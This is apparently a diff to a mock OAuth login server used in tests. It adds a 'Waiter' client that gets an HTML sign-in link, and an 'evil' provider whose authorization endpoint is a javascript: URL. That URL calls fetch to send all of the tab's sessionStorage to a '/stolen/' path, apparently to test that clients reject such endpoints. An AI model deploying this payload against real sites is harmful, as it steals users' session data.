@@ -11,6 +11,7 @@ export function answerLogin(request: Received, response: http.ServerResponse): v
   const path = pathname.replace('/v1/login/', '');
   const base = `http://${request.headers.host}/v1/login`;
   if (path === 'authorize') authorize(searchParams, response);
+  else if (path.startsWith('evil/')) json(response, 200, evil(base));
   else if (path === 'token') token(new URLSearchParams(request.body), response);
   else
     json(response, 200, {
@@ -20,11 +21,25 @@ export function answerLogin(request: Received, response: http.ServerResponse): v
     });
 }
 
-/** RFC 6749 section 4.1.1 with RFC 7636: agrees at once, unless the client is not known. */
+/** A provider whose address for signing in is a script: run in this site, it would send all that the tab keeps. */
+function evil(base: string): object {
+  const theft = `fetch(${JSON.stringify(`${base}/stolen/`)}+encodeURIComponent(JSON.stringify({...sessionStorage})))`;
+  return {
+    issuer: `${base}/evil`,
+    authorization_endpoint: `javascript:${theft}//`,
+    token_endpoint: `${base}/token`,
+  };
+}
+
+/** RFC 6749 section 4.1.1 with RFC 7636: agrees at once, unless the client is not known, or `Waiter`. */
 function authorize(asked: URLSearchParams, response: http.ServerResponse): void {
   const back = new URL(asked.get('redirect_uri') ?? '');
   back.searchParams.set('state', asked.get('state') ?? '');
-  if (asked.get('client_id') === 'Reader' && asked.get('code_challenge_method') === 'S256') {
+  const client = asked.get('client_id');
+  if (
+    (client === 'Reader' || client === 'Waiter') &&
+    asked.get('code_challenge_method') === 'S256'
+  ) {
     const code = `code-${codes.size}`;
     codes.set(code, asked);
     back.searchParams.set('code', code);
@@ -32,7 +47,10 @@ function authorize(asked: URLSearchParams, response: http.ServerResponse): void 
     back.searchParams.set('error', 'unauthorized_client');
     back.searchParams.set('error_description', 'Who is that?');
   }
-  response.writeHead(302, { location: back.href }).end();
+  if (client === 'Waiter') {
+    const link = `<a href="${back.href.replaceAll('&', '&amp;')}">Sign in</a>`;
+    response.writeHead(200, { 'content-type': 'text/html' }).end(link);
+  } else response.writeHead(302, { location: back.href }).end();
 }
 
 function token(given: URLSearchParams, response: http.ServerResponse): void {
